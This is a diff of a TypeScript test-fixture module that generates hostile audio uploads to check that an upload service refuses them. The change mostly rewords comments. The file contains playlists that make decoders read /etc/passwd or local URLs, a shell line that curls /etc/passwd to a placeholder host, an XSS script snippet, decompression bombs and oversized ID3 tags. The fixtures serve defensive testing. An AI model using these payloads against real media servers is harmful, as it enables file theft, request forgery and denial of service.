@@ -16,18 +16,21 @@ const attacks = [
 ] as const;
 type Attack = (typeof attacks)[number];
 
-/** A file that is not an honest song, with the name and type under which it is uploaded. */
+/** A file that only pretends to be a song, with the name and type of its upload. */
 export interface HostileSong {
   readonly what: string;
   readonly attack: Attack;
   readonly name: string;
   readonly type: string;
   bytes(): Uint8Array<ArrayBuffer>;
-  /** True if the file contains sound and may be accepted, as long as it is harmless; any other file must be refused. */
+  /**
+   * True if the file contains sound; it may then be accepted, but must do no harm. Every other file must be
+   * refused.
+   */
   readonly mayBePlayed?: boolean;
 }
 
-/** Formats that may be uploaded, with the first bytes of their files. */
+/** The first bytes of a file in each format that may be uploaded. */
 const beginnings: Readonly<Record<string, readonly number[]>> = {
   mp3: [0xff, 0xfb, 0x90, 0x64],
   wav: [...ascii('RIFF'), 0xff, 0xff, 0xff, 0x7f, ...ascii('WAVEfmt ')],
@@ -50,7 +53,7 @@ const bytesOf = (...parts: readonly (string | readonly number[] | Uint8Array)[])
 const big32 = (value: number) => [value >>> 24, (value >>> 16) & 255, (value >>> 8) & 255, value & 255];
 const little32 = (value: number) => big32(value).reverse();
 
-/** Texts that make an unsafe decoder read other files or URLs. */
+/** Playlists that make an unsafe decoder read other files or URLs. */
 const lists: Readonly<Record<string, string>> = {
   'an HLS playlist of files of the server':
     '#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\nfile:///etc/passwd\nhttp://127.0.0.1:1/\n#EXT-X-ENDLIST\n',
@@ -67,7 +70,7 @@ const lists: Readonly<Record<string, string>> = {
   'an image sequence and a filter': 'movie=/etc/passwd,lavfi:amovie=/etc/hosts\n%d.png\n',
 };
 
-/** Files of other types that stand before, after or in place of the sound. */
+/** Contents of other types, to put before, behind or in place of the sound. */
 const disguises: Readonly<Record<string, string>> = {
   'a page': '<!doctype html><script>alert(document.domain)</script>',
   'a script': '#!/bin/sh\ncurl http://127.0.0.1:1/$(cat /etc/passwd)\n',
@@ -98,9 +101,9 @@ const oddNames = [
 ] as const;
 
 /**
- * Lists seventy hostile files: playlists that name other files, wrong and truncated headers, decompression bombs, huge
- * tags, sound with other data around it, odd names. Other seeds give other files. @param encoded a short song in each
- * format, keyed by file extension, from which the broken files are made
+ * Lists seventy hostile files: playlists that name other files, wrong and truncated headers, decompression
+ * bombs, huge tags, sound with other data around it, odd names. Other seeds give other files. @param encoded
+ * a short song in each format, by file extension, from which the files are made
  */
 export function listHostileSongs(
   random: SeededRandom,
@@ -184,8 +187,7 @@ export function listHostileSongs(
 }
 
 /**
- * Draws a few hostile files that cover every kind of attack and every format: up to two files per kind, in alternating
- * formats.
+ * Draws a few files that cover every attack and every format: up to two per attack, in alternating formats.
  */
 export function drawOfEachAttack(random: SeededRandom, songs: readonly HostileSong[]): HostileSong[] {
   const types = Object.values(mimeTypes).toSorted(() => random.next() - 0.5);
@@ -207,7 +209,7 @@ type MakeSong = (
   mayBePlayed?: boolean,
 ) => HostileFile;
 
-/** Small files that claim to be huge, or that become huge when decoded. */
+/** Small files that say they are huge, or become huge when they are decoded. */
 function bombs(song: MakeSong, sound: Uint8Array<ArrayBuffer>): HostileFile[] {
   const altered = (...changes: readonly (readonly [at: number, bytes: readonly number[]])[]) => {
     const wav = Uint8Array.from(sound);
@@ -241,9 +243,9 @@ function bombs(song: MakeSong, sound: Uint8Array<ArrayBuffer>): HostileFile[] {
   ];
 }
 
-/** Files whose tags are far larger than a title, or claim to be. */
+/** Files whose tags are far larger than a title, or say so. */
 function hugeTags(song: MakeSong, sound: Uint8Array<ArrayBuffer>, mp3: Uint8Array): HostileFile[] {
-  /** Encodes an ID3 size, seven bits per byte. */
+  /** ID3 encodes a size with seven bits per byte. */
   const size = (bytes: number) => [bytes >>> 21, bytes >>> 14, bytes >>> 7, bytes].map((part) => part & 0x7f);
   const id3 = (frames: Uint8Array, claimed = frames.length) =>
     bytesOf('ID3', [4, 0, 0], size(claimed), frames, mp3);
